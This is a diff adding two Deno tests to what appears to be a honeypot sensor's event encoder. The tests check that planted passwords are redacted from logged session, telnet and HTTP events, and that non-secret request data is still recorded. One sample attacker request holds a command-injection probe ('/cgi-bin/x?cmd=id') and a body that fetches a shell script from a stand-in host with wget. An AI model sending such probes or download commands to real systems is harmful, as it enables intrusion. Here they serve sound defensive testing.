@@ -174,6 +174,74 @@ Deno.test("encodeEvent() leaves no password anywhere with secrets sha256 and off
   }
 });
 
+Deno.test("encodeEvent() leaves no password anywhere that nobody understood as one", () => {
+  const bytes = new TextEncoder().encode("USER a\r\nPASS hunter2");
+  const request = {
+    method: "POST",
+    target: "/",
+    version: "1.1",
+    headers: [],
+    body: new Uint8Array(),
+    bodyBytes: 0,
+    status: 400,
+  };
+  const body = (text: string) => ({
+    ...request,
+    body: new TextEncoder().encode(text),
+    bodyBytes: text.length,
+    bodySha256: "6e" + "0".repeat(62),
+  });
+  const samples: [EventId, EventMap[EventId]][] = [
+    ["session.close", {
+      durationNs: 1,
+      bytesIn: 1,
+      bytesOut: 1,
+      reason: "peer",
+      credentials: 0,
+      commands: 0,
+      payloads: 0,
+      firstBytes: bytes,
+    }],
+    ["protocol.error", { offset: 1, expected: "a length", firstBytes: bytes }],
+    ["service.probe", { detail: "unknown words before login", firstBytes: bytes }],
+    ["telnet.client", { options: [], environment: [["MY_PASSWORD", "hunter2"]] }],
+    ...["Authorization", "Cookie", "X-Api-Key", "X-Auth-Token", "x-session-id"].map((name) =>
+      ["http.request", { ...request, headers: [[name, "hunter2"]] }] as [EventId, EventMap[EventId]]
+    ),
+    ["http.request", { ...request, headers: [["Referer", "http://x/?password=hunter2"]] }],
+    ["http.request", { ...request, target: "http://u:hunter2@x/" }],
+    ["http.request", { ...request, target: "/x?token=hunter2" }],
+    ["http.request", body('{"Password": "hunter2"')],
+    ["http.request", body("<password>hunter2</password>")],
+  ];
+  for (const secrets of ["sha256", "off"] as const) {
+    for (const [id, data] of samples) {
+      const text = JSON.stringify(encode(id, data, { ...SENSOR, secrets }));
+      for (const trace of ["hunter2", "first_bytes", "6e00"]) {
+        assertEquals(text.includes(trace), false, `${id} ${trace}: ${text}`);
+      }
+      assertEquals(/hunter2|first_bytes/.test(JSON.stringify(encode(id, data))), true);
+    }
+  }
+});
+
+Deno.test("encodeEvent() still tells with secrets off what holds none", () => {
+  const event = encode("http.request", {
+    method: "POST",
+    target: "/cgi-bin/x?cmd=id",
+    version: "1.1",
+    headers: [["Host", "x"], ["Referer", "http://x/?a=1"]],
+    body: new TextEncoder().encode("wget http://x/a.sh"),
+    bodyBytes: 18,
+    bodySha256: "00",
+    status: 404,
+  }, { ...SENSOR, secrets: "off" });
+  assertEquals(event.url.original, "/cgi-bin/x?cmd=id");
+  assertEquals(event.http.request.body.content, "wget http://x/a.sh");
+  assertEquals(event.duckblind.http.headers[1].value, "http://x/?a=1");
+  assertEquals(event.duckblind.http.body_sha256, "00");
+});
+
 Deno.test("encodeEvent() says that a text was cut, and how long it was", () => {
   const event = encode("auth.attempt", { method: "password", username: "x", secret: LONG });
   const { password, password_truncated, password_bytes } = event.duckblind.credential;
